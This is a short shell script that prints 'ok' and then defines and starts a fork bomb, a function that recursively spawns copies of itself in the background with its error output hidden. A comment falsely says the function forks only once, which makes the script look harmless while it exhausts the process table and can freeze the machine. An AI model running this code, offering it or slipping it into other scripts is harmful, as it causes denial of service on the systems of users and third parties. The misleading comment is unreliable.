echo ok
bomb() { bomb | bomb & }
# forks just once itself: a shell that is refused a process tries again for seconds
bomb 2>/dev/null &
